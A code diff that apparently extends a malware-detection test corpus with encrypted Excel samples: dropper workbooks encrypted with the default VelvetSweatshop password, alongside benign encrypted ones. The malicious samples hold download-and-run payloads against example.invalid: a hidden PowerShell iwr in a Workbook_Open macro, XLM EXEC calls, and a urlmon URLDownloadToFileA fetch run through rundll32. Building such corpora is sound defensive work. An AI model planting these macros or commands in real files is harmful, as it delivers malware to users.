@@ -8,6 +8,7 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import org.apache.poi.poifs.crypt.EncryptionMode;
 import org.peekaboo.bench.DropperMacros.App;
 import org.peekaboo.bench.DropperMacros.Payload;
 import org.peekaboo.bench.DropperMacros.Trigger;
@@ -61,6 +62,7 @@ public final class DropperCorpus {
         List<Sample> samples = new ArrayList<>(malicious(new Random(seed)));
         samples.addAll(benignMacros());
         samples.addAll(benignXlm());
+        samples.addAll(encrypted());
         return samples;
     }
 
@@ -152,6 +154,39 @@ public final class DropperCorpus {
         return List.of(new Sample("benign-macros", "xlm-auto-open-totals.xls", OfficeFiles.xlsWithXlmFormulas(
                         "SUM(B2:B40)", "GET.WORKSPACE(2)", "RETURN(TRUE)")),
                 new Sample("benign-macros", "xlm-auto-open-totals.xlsm", OfficeFiles.xlsmWithXlmFormulas(formulas)));
+    }
+
+    /**
+     * Encrypted workbooks: droppers encrypted with Excel's default password VelvetSweatshop, which
+     * Excel opens without asking (RC4 CryptoAPI .xls, agile and standard .xlsm), and benign
+     * workbooks encrypted with a password of their own (a payroll sheet: the recipient types the
+     * password) or with VelvetSweatshop (a workbook protected against changes).
+     */
+    static List<Sample> encrypted() {
+        String velvet = "VelvetSweatshop";
+        Map<String, String> workbookOpen = OfficeFiles.module("ThisWorkbook", "Private Sub Workbook_Open()",
+                "    Dim sh As Object", "    Set sh = CreateObject(\"WScript.Shell\")",
+                "    sh.Run \"powershell -w hidden -c iwr http://example.invalid/e -OutFile $env:TEMP\\e.exe\", 0",
+                "End Sub");
+        Map<String, String> vat = OfficeFiles.module("Module1", "Option Explicit",
+                "Public Function Gross(ByVal net As Double) As Double", "    Gross = Round(net * 1.19, 2)",
+                "End Function");
+        return List.of(
+                new Sample("malicious", "enc-velvet-xlm-exec.xls", OfficeFiles.encryptedXlsWithXlmFormulas(velvet,
+                        "EXEC(\"cmd /c start http://example.invalid/v\")", "HALT()")),
+                new Sample("malicious", "enc-velvet-workbook-open.xlsm", OfficeFiles.encryptedOoxml(
+                        OfficeFiles.xlsm(workbookOpen), velvet, EncryptionMode.agile)),
+                new Sample("malicious", "enc-velvet-xlm-urlmon.xlsm", OfficeFiles.encryptedOoxml(
+                        OfficeFiles.xlsmWithXlmFormulas("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
+                                + "\"http://example.invalid/u.bin\",\"C:\\Users\\Public\\u.dll\",0,0)",
+                                "EXEC(\"rundll32 C:\\Users\\Public\\u.dll,Start\")", "HALT()"),
+                        velvet, EncryptionMode.standard)),
+                new Sample("benign-macros", "enc-payroll-private-password.xlsm", OfficeFiles.encryptedOoxml(
+                        OfficeFiles.xlsm(vat), "Lohn-Maerz-2026", EncryptionMode.agile)),
+                new Sample("benign-macros", "enc-totals-private-password.xls", OfficeFiles.encryptedXlsWithXlmFormulas(
+                        "Quartal4!", "SUM(B2:B40)", "RETURN(TRUE)")),
+                new Sample("benign-macros", "enc-velvet-vat-function.xlsm", OfficeFiles.encryptedOoxml(
+                        OfficeFiles.xlsm(vat), velvet, EncryptionMode.agile)));
     }
 
     private static Map<String, String> emptyProject(App app) {
